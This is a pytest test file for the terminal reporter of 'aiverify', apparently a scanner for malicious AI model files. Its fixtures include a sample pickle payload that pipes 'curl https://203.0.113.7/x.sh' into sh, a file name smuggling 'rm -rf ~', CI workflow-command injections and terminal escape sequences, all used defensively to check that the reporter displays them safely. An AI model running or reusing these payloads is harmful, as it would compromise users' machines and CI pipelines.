"""The report for people."""

from __future__ import annotations

import io
import os
import pty
import re
import shlex
import subprocess
import sys
import termios
import tomllib
import unicodedata
from collections.abc import Iterator
from dataclasses import replace

import pytest
from hostile_report import full_of
from hypothesis import given, settings
from hypothesis import strategies as st
from report_builder import blocked, every_kind, file, report, reports, to_review, unreadable
from rich.cells import cell_len

from aiverify.artifact import Artifact, SourceKind
from aiverify.finding import Severity, Unexamined
from aiverify.report import Outcome, Report, SignatureResult, Variant, Verdict
from aiverify.reporters.human import PLAIN_WIDTH, HumanReporter
from aiverify.reporters.interface import ReporterError
from aiverify.rules import finding

STYLE = re.compile(r"\x1b\[[0-9;]*m")
SOME = settings(max_examples=50, deadline=None)
WIDTHS = st.sampled_from([20, 40, 59, 60, 100, 120])
ENCODINGS = st.sampled_from(["utf-8", "ascii", "latin-1", "cp1252"])


def render(*several: Report, width: int = 80, verbosity: int = 0, encoding: str = "utf-8", colour: bool = False) -> str:
    return HumanReporter(width=width, encoding=encoding, colour=colour, verbosity=verbosity).render(several)


# --- hostile text


@SOME
@given(st.lists(reports, min_size=1, max_size=2), WIDTHS, ENCODINGS, st.integers(-1, 2), st.booleans())
def test_no_report_can_act_on_the_terminal(
    several: list[Report], width: int, encoding: str, verbosity: int, colour: bool
) -> None:
    text = render(*several, width=width, verbosity=verbosity, encoding=encoding, colour=colour)
    text.encode(encoding)
    bare = STYLE.sub("", text) if colour else text
    forbidden = {character for character in bare if unicodedata.category(character) in {"Cc", "Cf", "Cs", "Zl", "Zp"}}
    assert forbidden <= {"\n"}


@SOME
@given(reports, WIDTHS, ENCODINGS, st.integers(0, 2))
def test_lines_keep_to_the_width_unless_they_are_commands(
    one: Report, width: int, encoding: str, verbosity: int
) -> None:
    for line in render(one, width=width, encoding=encoding, verbosity=verbosity).splitlines():
        assert cell_len(line) <= width or line.startswith(("    aiverify ", "    trust.globals = "))
        assert line == line.rstrip()


@SOME
@given(reports, WIDTHS, st.integers(0, 2))
def test_only_the_verdict_begins_a_line_with_an_outcome(one: Report, width: int, verbosity: int) -> None:
    words = tuple(outcome.value.upper() for outcome in Outcome)
    lines = render(replace(one, tool="aiverify 0.1.0"), width=width, verbosity=verbosity).splitlines()
    assert [line.startswith(words) for line in lines] == [True] + [False] * (len(lines) - 1)


@pytest.mark.parametrize("width", [20, 40, 80, 100])
def test_no_line_is_a_command_to_a_ci_service(width: int) -> None:
    for before in range(0, 2 * width, 3):
        name = f"{'a' * before}::add-mask::BLOCK ##[error]pwn"
        lines = render(full_of(name), blocked(), width=width, verbosity=1).splitlines()
        # GitHub's runner takes a line for a command that begins with it behind blanks, and ##[ wherever it stands.
        assert not [line for line in lines if line.strip().startswith("::") or "##[" in line]


def test_markup_is_shown_and_not_obeyed() -> None:
    text = render(report(findings=(finding("AIV401", "[bold red]x[/] :smile: [link=a]b", file="[/red]"),)))
    assert "[/red]" in text
    assert "[bold red]x[/] :smile: [link=a]b" in text


# --- the order of things


def test_a_whole_report_reads_like_this() -> None:
    before, _, rest = render(blocked(), width=72).partition("What to do\n")
    assert before + rest.partition("\n\n")[2] == EXAMPLE


EXAMPLE = """\
BLOCK   acme/tiny-bert@3f2a91c (pytorch)  5 files, 974.5 MB, 3.2 s
        pytorch_model.bin: AIV301, the pickle names something dangerous
        (posix.system)

Findings
  pytorch_model.bin
    critical  AIV301  loading calls posix.system('curl -s
                      https://203.0.113.7/x.sh | sh')
                      at archive/data.pkl, byte 37
      │ import posix
      │
      │ _0 = posix.system('curl -s https://203.0.113.7/x.sh | sh')
      │ _1 = collections.OrderedDict()
      │ _1['bert.embeddings.word_embeddings.weight'] = torch._utils._reb
      │ uild_tensor_v2(
      │     persistent_load(('storage', torch.FloatStorage, '0', 'cpu',
      │ 23440896)), 0, (30522, 768), (768, 1), False, _2)
      │ result = _1
    high      AIV406  the CRC of archive/data/17 does not match its
                      content
                      at archive/data/17
    medium    AIV302  loading imports tiny.layers.FancyNorm, which
                      nobody has looked at
                      at archive/data.pkl, byte 5190
  modeling_tiny.py
    low       AIV502  Python source that no configuration file refers to

Signatures
  -  absent  No signature was found beside the files.

Variants
  ✗  pytorch         block   3 files  ← the verdict
  ✓  pytorch → twin  pass    2 files

Not examined
  HDF5 is recognised, this version does not look inside
    tf_model.h5
"""


def test_quiet_is_one_line_for_each_target() -> None:
    assert render(*every_kind(), verbosity=-1, width=40).splitlines() == [
        "PASS    acme/tiny-bert@3f2a91c (safetensors)  4 files, 438.5 MB, 3.2 s",
        "REVIEW  models/old-checkpoint (pytorch)  3 files, 13.0 GB, 1 min 23 s",
        "ERROR   ./download (pytorch)  2 files, 2.0 MB, 3.2 s",
        "BLOCK   acme/tiny-bert@3f2a91c (pytorch)  5 files, 974.5 MB, 3.2 s",
    ]


@pytest.mark.parametrize("encoding", ["utf-8", "ascii", "latin-1"])
def test_the_quiet_line_is_the_same_with_and_without_rich(encoding: str) -> None:
    hostile = replace(every_kind()[0], target="a\x1b[2J\u202e\n→" + "x" * 1200)
    hostile = replace(hostile, artifact=replace(hostile.artifact, source=SourceKind.FOLDER))
    converted = replace(hostile, verdict=replace(hostile.verdict, variant="pytorch → twin"))
    reports = [*every_kind(), hostile, converted]
    plain = HumanReporter(encoding=encoding, verbosity=-1).render(reports)
    coloured = HumanReporter(encoding=encoding, colour=True, verbosity=-1).render(reports)
    assert STYLE.sub("", coloured) == plain


def test_several_reports_end_with_a_summary() -> None:
    summary = render(*every_kind()).partition("Summary\n")[2]
    assert summary.splitlines() == [
        "  ✓  acme/tiny-bert@3f2a91c  pass    safetensors",
        "  !  models/old-checkpoint   review  pytorch",
        "  ?  ./download              error   pytorch",
        "  ✗  acme/tiny-bert@3f2a91c  block   pytorch",
    ]
    assert "Summary" not in render(blocked())


@pytest.mark.parametrize("width", [20, 30, 39, 40, 59])
def test_however_narrow_the_terminal_names_and_outcomes_are_whole(width: int) -> None:
    text = "".join(render(blocked(), to_review(), width=width).partition("Variants\n")[2].split())
    assert "✗pytorchblock3files" in text
    summary = "".join(render(blocked(), to_review(), width=width).partition("Summary\n")[2].split())
    assert sorted(summary) == sorted("✗acme/tiny-bert@3f2a91cblockpytorch!models/old-checkpointreviewpytorch")


def test_a_run_without_reports_is_an_error() -> None:
    with pytest.raises(ReporterError):
        render()


def test_files_and_findings_come_gravest_first() -> None:
    found = tuple(
        finding("AIV311", f"{severity.value}-{path}", file=path, severity=severity)
        for severity in (Severity.LOW, Severity.HIGH, Severity.MEDIUM)
        for path in ("a", "b")
        if (severity, path) != (Severity.HIGH, "a")
    )
    assert re.findall(r"(?:low|medium|high)-[ab]", render(report(findings=found))) == [
        "high-b",
        "medium-b",
        "low-b",
        "medium-a",
        "low-a",
    ]


def test_a_flood_of_findings_is_cut_where_it_matters_least() -> None:
    found = tuple(finding("AIV502", "low one", file=f"{index}.py") for index in range(60))
    text = render(report(findings=(*found, finding("AIV301", "grave one", file="z.bin"))))
    assert "grave one" in text
    assert text.count("low one") == 49
    assert "11 findings of no greater weight not shown here" in text
    assert render(report(findings=found), verbosity=1).count("low one") == 60


# --- what is shown when


def test_informational_findings_are_shown_on_request() -> None:
    text = render(blocked())
    assert "AIV201" not in text
    assert "-  absent  No signature was found beside the files.\n" in text
    assert "AIV201" in render(blocked(), verbosity=1)


def test_the_payload_of_a_lesser_finding_is_shown_on_request() -> None:
    assert "result = apex.amp.Opt" not in render(to_review())
    assert "│ result = apex.amp.Opt" in render(to_review(), verbosity=1)


def test_a_long_payload_is_cut_and_says_so() -> None:
    payload = "\n".join(["x" * 300] * 20)
    one = report(findings=(finding("AIV301", "m", file="a.bin", evidence={"payload": payload}),))
    text = render(one)
    assert text.count("[+60 characters]") == 12
    assert "8 more lines of the payload: -v shows them" in text
    assert render(one, verbosity=1).replace("\n", "").count("x") >= 20 * 300
    endless = replace(one, findings=(finding("AIV301", "m", evidence={"payload": "y\n" * 1000}),))
    assert "600 more lines of the payload: the JSON report has them" in render(endless, verbosity=1)


@pytest.mark.parametrize("payload", [None, 7, ["a"], {"text": "a"}])
def test_a_payload_that_is_no_text_is_left_to_the_json_report(payload: object) -> None:
    assert "│" not in render(report(findings=(finding("AIV301", "m", file="a", evidence={"payload": payload}),)))


def test_what_was_not_examined_is_grouped_by_reason_and_counted() -> None:
    text = render(unreadable())
    assert "  the archive ends before its central directory\n    model.ckpt, member archive/data.pkl\n" in text
    assert "shard-00009.bin" in text
    assert "shard-00010.bin" not in text
    assert "and 4 more: -v lists them" in text
    assert "shard-00013.bin" in render(unreadable(), verbosity=1)


def test_a_file_that_a_finding_calls_unexamined_is_listed_once() -> None:
    both = replace(blocked(), unexamined=(Unexamined(file="tf_model.h5", reason="another framework"),))
    assert render(both).count("tf_model.h5") == 1


def test_policy_and_tool_are_shown_on_request() -> None:
    assert "Policy" not in render(report())
    text = render(report(), verbosity=1)
    assert "/home/ada/project/aiverify.toml  sha256 bf0a902215950f95\n" in text
    assert text.endswith("aiverify 0.1.0, started 2026-05-04T12:30:00Z\n")


@pytest.mark.parametrize(
    ("outcome", "detail", "line"),
    [
        ("verified", "logged in May", "✓  verified (key)   ada  covers 1 of 4 files"),
        ("verified", "signed by ada", "✓  verified (key)   signed by ada  covers 1 of 4 files"),
        ("unpinned", "signed by ada", "!  unpinned (key)   signed by ada  covers 1 of 4 files"),
        ("failed", "not by bob", "✗  failed (key)     ada: not by bob"),
        ("unchecked", "", "?  unchecked (key)  ada"),
    ],
)
def test_a_signature_is_one_line(outcome: str, detail: str, line: str) -> None:
    signature = SignatureResult(kind="key", outcome=outcome, signer="ada", covers=("config.json", "x"), detail=detail)
    longest = replace(signature, outcome="unchecked")
    assert f"  {line}\n" in render(report(signatures=(signature, longest)))


def test_a_signature_that_covers_everything_says_so() -> None:
    assert "covers all 4 files\n" in render(report(), width=120)


def test_many_reasons_are_cut_and_counted() -> None:
    verdict = Verdict(outcome=Outcome.BLOCK, reasons=tuple(f"reason {index}" for index in range(13)))
    text = render(report(verdict=verdict))
    assert "reason 9\n        and 3 more reasons: -v lists them\n" in text
    assert "reason 12" in render(report(verdict=verdict), verbosity=1)


def test_conversions_say_what_is_lost() -> None:
    text = render(to_review())
    assert "pytorch_model-00001-of-00002.bin  can be converted, 199 tensors, 2 dropped\n" in text
    assert "pytorch_model-00002-of-00002.bin → model-00002-of-00002.safetensors  1 tensor\n" in text
    assert "dropped optimizer.state (dict)" in render(to_review(), verbosity=1)


# --- what to do


def commands(one: Report) -> list[list[str]]:
    lines = render(one, width=40).splitlines()
    return [shlex.split(line) for line in lines if line.startswith("    aiverify ")]


def test_commands_can_be_pasted_however_narrow_the_terminal() -> None:
    assert commands(to_review()) == [
        ["aiverify", "explain", "AIV302"],
        ["aiverify", "convert", "models/old-checkpoint", "-o", "converted"],
        [
            *("aiverify", "verify", "models/old-checkpoint"),
            *("--cert-identity", "ada@acme.example", "--cert-oidc-issuer", "https://accounts.example"),
        ],
    ]


def unknown(*names: str) -> Report:
    found = (finding("AIV302", f"names {name}", file="a.bin", evidence={"global": name}) for name in names)
    return replace(to_review(), findings=tuple(found))


def test_the_line_of_a_policy_that_trusts_unknown_names_can_be_pasted() -> None:
    lines = render(unknown("mylib.Settings", "apex.amp.Opt", "mylib.Settings"), width=40).splitlines()
    (line,) = [line for line in lines if line.startswith("    trust.globals")]
    assert tomllib.loads(line) == {"trust": {"globals": ["apex.amp.Opt", "mylib.Settings"]}}


@pytest.mark.parametrize(
    "names", [["a.b", 'c.d"]\nreview_at = "high'], ["a.b", "\u0430.b"], [f"a.b{n}" for n in range(9)]]
)
def test_names_that_are_none_or_too_many_are_not_offered_for_trust(names: list[str]) -> None:
    assert "trust.globals =" not in render(unknown(*names))


def test_trust_is_not_offered_for_what_blocks() -> None:
    blocking = replace(unknown("a.b"), verdict=Verdict(outcome=Outcome.BLOCK, reasons=("other",)))
    assert "trust.globals =" not in render(blocking)


def test_nothing_is_to_be_done_about_a_pass() -> None:
    assert "What to do" not in render(report())


def test_a_block_is_not_talked_away_by_a_conversion() -> None:
    assert commands(replace(blocked(), conversions=to_review().conversions)) == [["aiverify", "explain", "AIV301"]]


def test_a_written_twin_is_named() -> None:
    one = to_review()
    assert "load the safetensors twin: model-00002-of-00002.safetensors." in render(
        replace(one, conversions=one.conversions[1:])
    )


def test_the_advice_is_about_the_variant_of_the_verdict() -> None:
    one = replace(
        blocked(),
        findings=(*blocked().findings, finding("AIV501", "auto_map", file="config.json")),
        variants=(Variant(name="safetensors", files=("config.json",), outcome=Outcome.REVIEW),),
        verdict=Verdict(outcome=Outcome.REVIEW, variant="safetensors", reasons=()),
    )
    assert commands(one) == [["aiverify", "explain", "AIV501"]]


def unreadable_file(name: str, target: str = "./download") -> Report:
    return replace(unreadable(), target=target, unexamined=(Unexamined(file=name, reason="broken"),))


def test_a_single_unreadable_file_can_be_left_out() -> None:
    name = "it's; rm -rf ~/$(x).bin"
    assert commands(unreadable_file(name)) == [["aiverify", "verify", "./download", "--exclude", name]]


@pytest.mark.parametrize("target", ["./a.bin", "-"])
def test_the_only_file_is_not_to_be_left_out(target: str) -> None:
    artifact = Artifact(source=SourceKind.FILE, files=(file("a.bin"),))
    one = replace(unreadable_file("a.bin", target=target), artifact=artifact)
    assert commands(one) == []
    assert "nothing is known about it" in render(one)


@pytest.mark.parametrize("name", ["a\x1b[2Jb", "a\nb", "gpj\u202e.bin", "*.bin", "[ab].bin"])
def test_a_command_that_would_not_do_what_it_shows_is_not_offered(name: str) -> None:
    assert commands(unreadable_file(name)) == []


def test_a_command_that_the_encoding_cannot_show_is_not_offered() -> None:
    one = unreadable_file("caf\u00e9.bin")
    assert "--exclude" in render(one, encoding="latin-1")
    assert "--exclude" not in render(one, encoding="ascii")


@pytest.mark.parametrize("target", ["--output", "hf://org/name"])
def test_a_folder_that_is_named_like_something_else_stays_a_folder(target: str) -> None:
    assert commands(unreadable_file("a.bin", target=target)) == [
        ["aiverify", "verify", f"./{target}", "--exclude", "a.bin"]
    ]


def test_a_hub_target_is_named_by_its_commit() -> None:
    artifact = replace(report().artifact, files=(file("a.bin"), file("model.safetensors")))
    one = replace(unreadable_file("a.bin", target="acme/tiny-bert"), artifact=artifact)
    assert commands(one)[0][2] == f"acme/tiny-bert@{artifact.revision}"


def test_a_hub_target_without_a_commit_is_shown_without_one() -> None:
    artifact = Artifact(source=SourceKind.HUB, repo="acme/tiny-bert", files=())
    assert render(report(artifact=artifact)).startswith("PASS    acme/tiny-bert (safetensors)  0 files, 0 bytes, ")


# --- terminals


def test_plain_characters_replace_what_the_encoding_cannot_show() -> None:
    text = render(*every_kind(), encoding="ascii")
    assert "  x  pytorch          block   3 files  <- the verdict\n" in text
    assert "  +  pytorch -> twin  pass    2 files\n" in text
    assert "      | import posix\n" in text


def test_colour_only_adds_styles() -> None:
    assert STYLE.sub("", render(*every_kind(), colour=True)) == render(*every_kind())
    assert "\x1b[1;31mBLOCK" in render(blocked(), colour=True)


@pytest.fixture
def terminal() -> Iterator[io.TextIOWrapper]:
    leader, follower = pty.openpty()
    with os.fdopen(follower, "w", encoding="utf-8") as stream:
        yield stream
    os.close(leader)


@pytest.mark.parametrize(
    ("columns", "width"), [(0, 80), (8, 20), (63, 63), (300, 120)], ids=["unknown", "tiny", "usual", "huge"]
)
def test_a_terminal_gets_colour_and_its_own_width(terminal: io.TextIOWrapper, columns: int, width: int) -> None:
    termios.tcsetwinsize(terminal.fileno(), (24, columns))
    assert HumanReporter.for_stream(terminal, {}) == HumanReporter(width=width, colour=True, encoding="utf-8")


@pytest.mark.parametrize(
    ("environ", "colour"),
    [({"NO_COLOR": "1"}, False), ({"TERM": "dumb"}, False), ({"NO_COLOR": ""}, True), ({"TERM": "xterm"}, True)],
)
def test_no_color_is_honoured(terminal: io.TextIOWrapper, environ: dict[str, str], colour: bool) -> None:
    assert HumanReporter.for_stream(terminal, environ).colour is colour


def test_a_file_gets_plain_text_of_a_fixed_width() -> None:
    stream = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    assert HumanReporter.for_stream(stream, {}) == HumanReporter(width=PLAIN_WIDTH, colour=False, encoding="ascii")
    assert HumanReporter.for_stream(io.StringIO(), {}).encoding == "utf-8"


def test_rich_is_not_imported_before_something_is_rendered() -> None:
    code = "import sys, aiverify.reporters.human, aiverify.reporters.json; print('rich' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout == "False\n"
